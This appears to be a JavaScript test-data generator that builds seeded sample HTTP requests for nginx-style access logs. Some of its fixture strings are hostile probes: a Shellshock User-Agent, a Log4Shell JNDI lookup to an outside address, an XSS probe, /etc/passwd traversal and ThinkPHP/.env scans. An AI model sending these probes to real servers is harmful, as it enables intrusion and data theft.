/**
 * The requests of the sample logs, as bytes: strings here are latin1, one character is one byte.
 * The same seed gives the same requests in the same order.
 */
import { agents, documentationAddress, integer, pick, randomFrom, referers, searches } from './vocabulary.mjs'

const REQUESTS_PER_SITE = 260

/** @typedef {{bytes: Buffer, leaveAfterMs?: number}} Visit what is sent on one connection, and when the client gives up */

const pages = [
  '/',
  '/index.html',
  '/about.html',
  '/catalogue/shoes.html',
  '/catalogue/coats.html',
  '/contact.html',
]
const assets = ['/static/site.css', '/static/app.js', '/static/logo.png', '/files/terms.pdf']
const missing = ['/wp-login.php', '/.env', '/favicon.ico', '/index.php?s=/Index/\\think\\app/invokefunction']

/** What every nginx on a public address meets; each is one line of a log, most with status 400. */
const strange = [
  '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\x9b\x84\x1f"\\\xe7\x5a\x00\x7f\r\n\r\n',
  '\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03\n',
  '\r\n\r\n',
  '\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n\r\n',
  '\x05\x01\x00\n',
  'HELP\r\n\r\n',
  'GET /\r\n',
  'GET / HTTP/1.1\r\nHost: www.example.com\r\nHost: twice.example.com\r\n\r\n',
  'GET / HTTP/1.1\r\n\r\n',
  'GET / HTTP/3.0\r\nHost: www.example.com\r\n\r\n',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  'CONNECT mail.example.net:443 HTTP/1.1\r\nHost: mail.example.net:443\r\n\r\n',
  'GET http://www.example.com/index.html HTTP/1.0\r\n\r\n',
  'OPTIONS * HTTP/1.0\r\n\r\n',
  'get / HTTP/1.1\r\nHost: www.example.com\r\n\r\n',
  'GET /a b c HTTP/1.1\r\nHost: www.example.com\r\n\r\n',
]

/** @returns {Visit[]} for the servers of static pages */
export function siteVisits(seed) {
  return visits(seed, siteRequest)
}

/** @returns {Visit[]} for the server in front of upstream groups */
export function ingressVisits(seed) {
  return visits(seed, ingressRequest)
}

/** @returns {Visit[]} for the API */
export function apiVisits(seed) {
  return visits(seed, apiRequest)
}

function visits(seed, request) {
  const random = randomFrom(seed)
  const list = []
  for (let n = 0; n < REQUESTS_PER_SITE; n++) {
    if (n % 16 === 7) list.push({ bytes: latin1(strange[Math.floor(n / 16) % strange.length]) })
    else list.push(request(random))
  }
  return list
}

function siteRequest(random) {
  const kind = random()
  if (kind < 0.4) return visit(random, 'GET', pick(random, pages))
  if (kind < 0.55) return visit(random, 'GET', pick(random, assets), { 'If-None-Match': '*' })
  if (kind < 0.62)
    return visit(random, 'GET', '/files/terms.pdf', { Range: `bytes=${integer(random, 0, 900)}-999` })
  if (kind < 0.66) return visit(random, 'HEAD', pick(random, pages))
  if (kind < 0.72) return visit(random, 'GET', pick(random, missing))
  if (kind < 0.77) return visit(random, 'GET', pick(random, ['/old/page', '/moved', '/catalogue', '/teapot']))
  if (kind < 0.8) return visit(random, 'POST', '/contact.html', {}, 'name=Ada&text=hello')
  if (kind < 0.84) return visit(random, 'GET', '/private/report', credentials(random))
  if (kind < 0.88) return visit(random, 'GET', `/index.html?${longQuery(random)}`)
  if (kind < 0.9) return visit(random, 'GET', '/hang-up')
  if (kind < 0.94) return visit(random, 'GET', `/app/item/${integer(random, 1, 999)}`)
  return visit(random, 'GET', pick(random, oddTargets))
}

function ingressRequest(random) {
  const kind = random()
  if (kind < 0.45) return visit(random, 'GET', `/item/${integer(random, 1, 9999)}?${pick(random, searches)}`)
  if (kind < 0.55) return visit(random, 'POST', '/cart/items', {}, `{"sku":"A-${integer(random, 100, 999)}"}`)
  if (kind < 0.7)
    return visit(random, 'GET', `/download/invoice-${integer(random, 1000, 9999)}.pdf`, credentials(random))
  if (kind < 0.76) return visit(random, 'GET', '/legacy/report')
  if (kind < 0.82) return visit(random, 'GET', '/gone/feed.xml')
  if (kind < 0.87) return visit(random, 'GET', '/health')
  if (kind < 0.89) return visit(random, 'GET', '/stuck')
  if (kind < 0.94) return { ...visit(random, 'GET', '/slow'), leaveAfterMs: 40 }
  if (kind < 0.97) return visit(random, 'GET', '/fails')
  return visit(random, 'GET', pick(random, oddTargets))
}

function apiRequest(random) {
  const kind = random()
  const tenant = { 'X-Tenant': pick(random, ['acme', 'm\xc3\xbcller gmbh', 'tab\there', 'bad\xff\xfebytes']) }
  if (kind < 0.35) return visit(random, 'GET', `/v1/items?${pick(random, searches)}`, tenant)
  if (kind < 0.5)
    return visit(random, 'PUT', `/v1/items/${integer(random, 1, 9999)}`, tenant, '{"price":1999}')
  if (kind < 0.6) return visit(random, 'DELETE', `/v1/items/${integer(random, 1, 9999)}`, credentials(random))
  if (kind < 0.75) return visit(random, 'GET', '/v1/status')
  if (kind < 0.85) return visit(random, 'GET', '/fails', tenant)
  if (kind < 0.9) return visit(random, 'GET', '/stuck', tenant)
  return visit(random, 'GET', pick(random, oddTargets), tenant)
}

const oddTargets = [
  '/search?q="><script>alert(1)</script>',
  '/search?q=%22quoted%22+and+%5Cbackslash%5C',
  '/caf\xc3\xa9/men\xc3\xbc.html',
  '/latin1/caf\xe9.html',
  '/path/with\\backslash/and"quote"',
  '/%2e%2e/%2e%2e/etc/passwd',
  '//double//slashes///',
  '/question?mark?in?query?=?',
  '/fragment#section',
  "/brackets/[0]/{a|b}/'single'",
  '/?',
  '/%E2%98%83?%00=%ff',
]

const oddAgents = [
  'Mozilla/5.0 (compatible; "quoted agent"; \\back\\slash)',
  'b\xf6ser Agent \xff\xfe\x80',
  'Agent with \xe2\x9c\x93 and \xf0\x9f\x9a\x80',
  "() { :;}; echo 'vulnerable'",
  '-',
  '',
  'tabs\tinside\tthe agent',
  `\${jndi:ldap://203.0.113.66/a}`,
]

function credentials(random) {
  const user = pick(random, ['alice', 'bob', 'Jos\xe9', 'mary ann', 'quote"d', 'admin - [x]'])
  return { Authorization: `Basic ${latin1(`${user}:secret`).toString('base64')}` }
}

function longQuery(random) {
  const parts = Array.from(
    { length: integer(random, 20, 60) },
    (_, n) => `key${n}=${integer(random, 0, 1e9).toString(36)}`,
  )
  return parts.join('&')
}

function visit(random, method, target, headers = {}, body = '') {
  const version = random() < 0.1 ? 'HTTP/1.0' : 'HTTP/1.1'
  const lines = [`${method} ${target} ${version}`, 'Host: www.example.com']
  const agent = random() < 0.15 ? pick(random, oddAgents) : pick(random, agents)
  if (random() < 0.93) lines.push(`User-Agent: ${agent}`)
  if (random() < 0.5) lines.push(`Referer: ${pick(random, referers)}`)
  if (random() < 0.85) lines.push(`X-Forwarded-For: ${forwardedFor(random)}`)
  for (const [name, value] of Object.entries(headers)) lines.push(`${name}: ${value}`)
  if (body !== '') lines.push(`Content-Length: ${body.length}`)
  lines.push('Connection: close', '', body)
  return { bytes: latin1(lines.join('\r\n')) }
}

function forwardedFor(random) {
  const hops = random() < 0.25 ? integer(random, 2, 4) : 1
  return Array.from({ length: hops }, () => documentationAddress(random)).join(', ')
}

function latin1(text) {
  return Buffer.from(text, 'latin1')
}
